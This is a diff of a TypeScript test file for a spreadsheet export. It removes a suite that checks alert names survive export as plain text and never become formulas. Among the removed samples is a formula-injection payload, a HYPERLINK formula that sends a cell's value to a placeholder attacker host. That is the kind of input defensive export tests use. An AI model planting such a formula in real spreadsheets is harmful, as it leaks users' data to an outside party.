@@ -42,59 +42,6 @@ async function readByBoth(file: Buffer): Promise<Map<string, ExportedRow>[]> {
   return [byId(await exportedRows(file)), byId(await exportedRows(exceljsRows(sheet)))];
 }
 
-/** Texts, and how they are shown if that differs. */
-const texts: [what: string, text: string, shown?: string][] = [
-  ["a sum", "=1+1"],
-  ["a link as a formula", '=HYPERLINK("https://evil.example/?x="&A1,"Open picture")'],
-  ["a number", "007"],
-  ["a boolean", "TRUE"],
-  ["a date", "2026-11-20"],
-  ["markup", `<b title="x">'bold'</b> & &#65; ]]> <![CDATA[x]]>`],
-  ["emoji", "🎥👷🏽‍♀️ 1️⃣"],
-  ["right-to-left text with direction marks", "\u202eشاحنة\u202c \u200fעברית"],
-  ["leading and trailing spaces", "  two before, two after  "],
-  ["line breaks of other platforms", "one\r\ntwo\rthree\n\rfour", "one\ntwo\nthree\n\nfour"],
-  [
-    "control characters",
-    "a\u0001b\u0008c\u000bd\u000ce\u001bf\u001fg",
-    "a\ufffdb\ufffdc\ufffdd\ufffde\ufffdf\ufffdg",
-  ],
-  ["noncharacters", "a\ufffeb\uffffc", "a\ufffdb\ufffdc"],
-  ["a byte order mark, a line separator and a next line", "a\ufeffb\u2028c\u0085d"],
-  ["overlapping character escapes", "_x0041_x000d_X0042_x0x0043_"],
-  ["the maximum length of a cell", "x".repeat(32_767)],
-  ["more than the maximum length of a cell", "x".repeat(40_000), "x".repeat(32_767)],
-];
-
-describe("both libraries read a text unchanged:", () => {
-  const facilityId = randomUUID();
-  let ids: string[];
-  let libraries: Map<string, ExportedRow>[];
-  let xml: string;
-  beforeAll(async () => {
-    await createFacility(gateway.prisma, { id: facilityId, workspaceId });
-    const cameraId = await createCamera(gateway.prisma, { workspaceId, facilityId });
-    const alerts = texts.map(([, text]) => ({ workspaceId, facilityId, cameraId, name: text }));
-    ids = await createAlerts(gateway.prisma, alerts);
-    const file = await exported(facilityId);
-    libraries = await readByBoth(file);
-    xml = await partOf(file, "xl/worksheets/sheet1.xml");
-  });
-
-  it.each(texts.map(([what, text, shown = text], index) => [what, shown, index] as const))(
-    "%s",
-    (_what, shown, index) => {
-      for (const rows of libraries) expect(rows.get(ids[index] as string)?.Type).toBe(shown);
-    },
-  );
-
-  it("nothing is a formula", () => {
-    expect(xml).not.toMatch(/<f[ >]/);
-    const types = [...xml.matchAll(/<c r="E\d+"[^>]* t="(str|inlineStr)"/g)];
-    expect(types).toHaveLength(texts.length + 1);
-  });
-});
-
 it("names of facilities, cameras, rules, areas and severities are texts as well", async () => {
   const odd = (name: string) => `=${name}("\u0001_x0041_")\r\n`;
   const shown = (name: string) => `=${name}("\ufffd_x0041_")\n`;
